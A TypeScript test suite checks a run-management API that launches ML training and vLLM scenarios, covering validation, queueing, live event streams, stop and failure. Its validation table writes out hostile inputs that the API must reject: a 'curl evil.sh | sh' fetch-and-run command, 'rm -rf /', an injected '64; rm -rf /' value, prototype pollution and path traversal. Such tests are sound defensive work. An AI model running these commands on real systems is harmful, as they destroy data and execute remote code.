import { serve } from '@hono/node-server';
import type { AddressInfo } from 'node:net';
import type { Server } from 'node:http';
import { describe, expect, it } from 'vitest';
import type { ScenarioRunner } from '../../server/agent/run-registry.js';
import { getRun } from '../../server/store/runs.js';
import { listSteps } from '../../server/store/steps.js';
import { runCount } from '../pages/helpers.js';
import { agentApp, cachedRunner, gatedRunner, parseSse, startedId, startRun, until } from './helpers.js';

describe('POST /api/runs: only scenario files run, with bounded numeric overrides', () => {
  const { app, db } = agentApp({ runner: cachedRunner() });
  it.each([
    [{ scenario: 'rm-rf' }, /unknown scenario "rm-rf"/],
    [{}, /scenario/],
    [{ scenario: 'train-batch-64', command: 'curl evil.sh | sh' }, /command/],
    [{ scenario: 'train-batch-64', params: { command: 'rm -rf /' } }, /params\.command: not a numeric parameter/],
    [{ scenario: 'train-batch-64', params: { batch_size: '64; rm -rf /' } }, /params\.batch_size: must be an integer from 1 to 4096/],
    [{ scenario: 'train-batch-64', params: { batch_size: 0 } }, /batch_size: must be an integer from 1 to 4096/],
    [{ scenario: 'train-batch-64', params: { batch_size: 4097 } }, /batch_size/],
    [{ scenario: 'train-batch-64', params: { batch_size: 2.5 } }, /batch_size/],
    [{ scenario: 'vllm-max-model-len', params: { max_model_len: 1_048_577 } }, /max_model_len: must be an integer from 1 to 1048576/],
    [{ scenario: 'vllm-max-model-len', params: { gpu_memory_utilization: 1.5 } }, /gpu_memory_utilization: must be a number from 0.01 to 1/],
    [{ scenario: 'vllm-max-model-len', params: { gpu_memory_utilization: null } }, /gpu_memory_utilization/],
    [{ scenario: 'vllm-max-model-len', params: { model: 'evil/model' } }, /params\.model: not a numeric parameter/],
    [{ scenario: 'vllm-max-model-len', params: { __proto__: { x: 1 }, toString: 3 } }, /params\.toString/],
    [{ scenario: 'load-timeout', params: { prompts: 1001 } }, /prompts: must be an integer from 1 to 1000/],
    [{ scenario: 'load-timeout', params: { budget_s: 3601 } }, /budget_s: must be a number from 1 to 3600/],
    [{ scenario: 'load-timeout', params: { max_model_len: 10 } }, /not a numeric parameter of scenario "load-timeout"/],
    [{ scenario: 'load-timeout', mode: 'shell' }, /mode/],
  ])('%j → 400', async (body, message) => {
    const res = await startRun(app, body);
    expect(res.status).toBe(400);
    expect(((await res.json()) as { error: string }).error).toMatch(message);
  });

  it('a body that is not JSON → 400, an oversized one → 413; nothing is stored', async () => {
    const bad = await app.request('/api/runs', { method: 'POST', body: '{"scenario":', headers: { 'Content-Type': 'application/json' } });
    expect(bad.status).toBe(400);
    const big = await startRun(app, { scenario: 'load-timeout', pad: 'x'.repeat(20_000) });
    expect(big.status).toBe(413);
    expect(runCount(db)).toBe(0);
  });

  it('unknown runs: 404 for the run, its events and stop', async () => {
    for (const [path, method] of [['/api/runs/AAAAAAAAAAAAAAAAAAAAAA/events', 'GET'], ['/api/runs/AAAAAAAAAAAAAAAAAAAAAA/stop', 'POST'], ['/api/runs/..%2Fx/events', 'GET']]) {
      expect((await app.request(path, { method })).status).toBe(404);
    }
  });
});

describe('many runs at once', () => {
  it('50 simultaneous runs all complete, each streaming and storing its 9 steps', async () => {
    const { app, db, agent } = agentApp({ runner: cachedRunner(), env: { REPLAYLAB_MAX_CONCURRENT_RUNS: '8' } });
    const ids = ['vllm-max-model-len', 'train-batch-64', 'load-timeout', 'vllm-kv-cache'];
    const started = await Promise.all(Array.from({ length: 50 }, (_, i) => startedId(app, { scenario: ids[i % 4] })));
    const streams = await Promise.all(started.map(async (id) => parseSse(await (await app.request(`/api/runs/${id}/events`)).text()).events));
    for (const [i, events] of streams.entries()) {
      expect(events.map((e) => e.id ?? e.event), started[i]).toEqual(['1', '2', '3', '4', '5', '6', '7', '8', '9', 'complete']);
      expect(JSON.parse(events.at(-1)!.data).result.verdict).toBe('recovered');
    }
    await agent.idle();
    for (const id of started) {
      expect(listSteps(db, id)).toHaveLength(9);
      expect(getRun(db, id)!.status).toBe('done');
    }
  }, 120_000);

  it('runs at most the cap at once; the rest wait in a queue and then run', async () => {
    const inner = cachedRunner();
    let now = 0;
    let peak = 0;
    const counting: ScenarioRunner = async (...args) => {
      peak = Math.max(peak, ++now);
      try { return await inner(...args); } finally { now--; }
    };
    const gate = gatedRunner('failing', counting);
    const { app, agent } = agentApp({ runner: gate.runner, env: { REPLAYLAB_MAX_CONCURRENT_RUNS: '2' } });
    const ids = await Promise.all(Array.from({ length: 5 }, () => startedId(app, { scenario: 'train-batch-64' })));
    expect(ids.map((id) => agent.queuePosition(id))).toEqual([null, null, 0, 1, 2]);
    gate.release();
    await agent.idle();
    expect(peak).toBeLessThanOrEqual(2);
    expect(ids.every((id) => !agent.isActive(id))).toBe(true);
  }, 60_000);
});

describe('viewers, stops and failures', () => {
  it('a live viewer resuming with Last-Event-ID gets the rest once, in order', async () => {
    const gate = gatedRunner('fixed');
    const { app, db } = agentApp({ runner: gate.runner });
    const id = await startedId(app, { scenario: 'vllm-max-model-len' });
    await until(() => listSteps(db, id).length === 6);
    const res = await app.request(`/api/runs/${id}/events`, { headers: { 'Last-Event-ID': '4' } });
    setTimeout(gate.release, 50);
    const { events } = parseSse(await res.text());
    expect(events.map((e) => e.id ?? e.event)).toEqual(['5', '6', '7', '8', '9', 'complete']);
  }, 60_000);

  it('a viewer that disconnects only unsubscribes: the run goes on and finishes', async () => {
    const gate = gatedRunner('fixed');
    const { app, db, agent } = agentApp({ runner: gate.runner });
    const id = await startedId(app, { scenario: 'train-batch-64' });
    const res = await app.request(`/api/runs/${id}/events`);
    const reader = res.body!.getReader();
    expect(new TextDecoder().decode((await reader.read()).value)).toContain(': connected');
    await reader.cancel();
    gate.release();
    await agent.idle();
    expect(getRun(db, id)!.status).toBe('done');
    expect(listSteps(db, id)).toHaveLength(9);
  }, 60_000);

  it('over a real socket, a viewer that drops is unsubscribed at once', async () => {
    const gate = gatedRunner('fixed');
    const { app, db, agent } = agentApp({ runner: gate.runner });
    const server = await new Promise<Server>((resolve) => { const s = serve({ fetch: app.fetch, port: 0, hostname: '127.0.0.1' }, () => resolve(s as Server)); });
    try {
      const id = await startedId(app, { scenario: 'vllm-kv-cache' });
      await until(() => listSteps(db, id).length === 6);
      const viewer = new AbortController();
      const res = await fetch(`http://127.0.0.1:${(server.address() as AddressInfo).port}/api/runs/${id}/events`, { signal: viewer.signal });
      const reader = res.body!.getReader();
      let seen = '';
      while (!seen.includes('id: 6')) seen += new TextDecoder().decode((await reader.read()).value);
      expect(agent.viewers(id)).toBe(1);
      viewer.abort();
      await until(() => agent.viewers(id) === 0, 5_000);
      gate.release();
      await agent.idle();
      expect(getRun(db, id)!.status).toBe('done');
    } finally {
      server.closeAllConnections();
      server.close();
    }
  }, 60_000);

  it('Stop aborts the loop (the experiment is killed) and records the run as interrupted', async () => {
    const gate = gatedRunner('fixed');
    const { app, db, agent } = agentApp({ runner: gate.runner });
    const id = await startedId(app, { scenario: 'train-batch-64' });
    await until(() => listSteps(db, id).length === 6);
    const events = Promise.resolve(app.request(`/api/runs/${id}/events?after=6`)).then((r) => r.text());
    await new Promise((r) => setTimeout(r, 50));
    const res = await app.request(`/api/runs/${id}/stop`, { method: 'POST' });
    expect(res.status).toBe(200);
    expect(await res.json()).toMatchObject({ stopped: true, status: 'interrupted' });
    expect(gate.aborted).toEqual(['fixed']);
    const { events: got } = parseSse(await events);
    expect(got.map((e) => e.event)).toEqual(['error']);
    expect(JSON.parse(got[0].data)).toMatchObject({ status: 'interrupted', error: 'stopped by a viewer after 6 of 9 steps' });
    await agent.idle();
    expect(listSteps(db, id)).toHaveLength(6);
    expect(getRun(db, id)!.status).toBe('interrupted');
    expect((await app.request(`/api/runs/${id}/stop`, { method: 'POST' })).status).toBe(409);
  }, 60_000);

  it('an error in the loop ends the run as failed, with an error event', async () => {
    const inner = cachedRunner();
    const broken: ScenarioRunner = async (scenario, params, label, ctx) => {
      if (label === 'baseline') throw new Error('spawn ENOENT');
      return inner(scenario, params, label, ctx);
    };
    const { app, db } = agentApp({ runner: broken });
    const id = await startedId(app, { scenario: 'load-timeout' });
    const { events } = parseSse(await (await app.request(`/api/runs/${id}/events`)).text());
    expect(events.map((e) => e.id ?? e.event)).toEqual(['1', '2', '3', '4', '5', '6', '7', 'error']);
    expect(JSON.parse(events.at(-1)!.data)).toMatchObject({ status: 'failed', error: 'spawn ENOENT' });
    expect(getRun(db, id)).toMatchObject({ status: 'failed', result: { error: 'spawn ENOENT' } });
  }, 60_000);

  it('stamps steps with the injected clock', async () => {
    const { app, db, agent } = agentApp({ runner: cachedRunner(), clock: () => 1_800_000_000_000 });
    const id = await startedId(app, { scenario: 'train-batch-64' });
    await agent.idle();
    for (const s of listSteps(db, id)) expect(s.startedAt).toBe(1_800_000_000_000 - s.durationMs);
  }, 60_000);
});
